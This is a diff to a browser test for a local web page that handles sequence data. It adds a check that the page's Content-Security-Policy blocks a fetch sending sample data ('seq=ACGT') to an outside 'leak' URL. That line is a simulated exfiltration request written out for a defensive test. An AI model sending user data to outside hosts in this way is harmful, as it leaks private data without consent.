@@ -131,6 +131,9 @@ test("page: privacy statement, CSP, no shipped-model gap, invalid input located 
   assert.match(await page.textContent("#privacy"), /never leave this machine/);
   const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
   assert.match(csp, /connect-src 'self'/);
+  // the policy itself stops a request to another site (were it sent, the last test would fail)
+  const attempt = await page.evaluate(() => fetch("https://example.org/leak?seq=ACGT").then(() => "sent", () => "blocked"));
+  assert.equal(attempt, "blocked");
   const headers = (await page.request.get(new URL("worker.js", origin).href)).headers();
   assert.match(headers["content-security-policy"], /connect-src 'self'/, "workers get the policy as a header");
   assert.match(await page.textContent("#model-select"), /mpra1/);
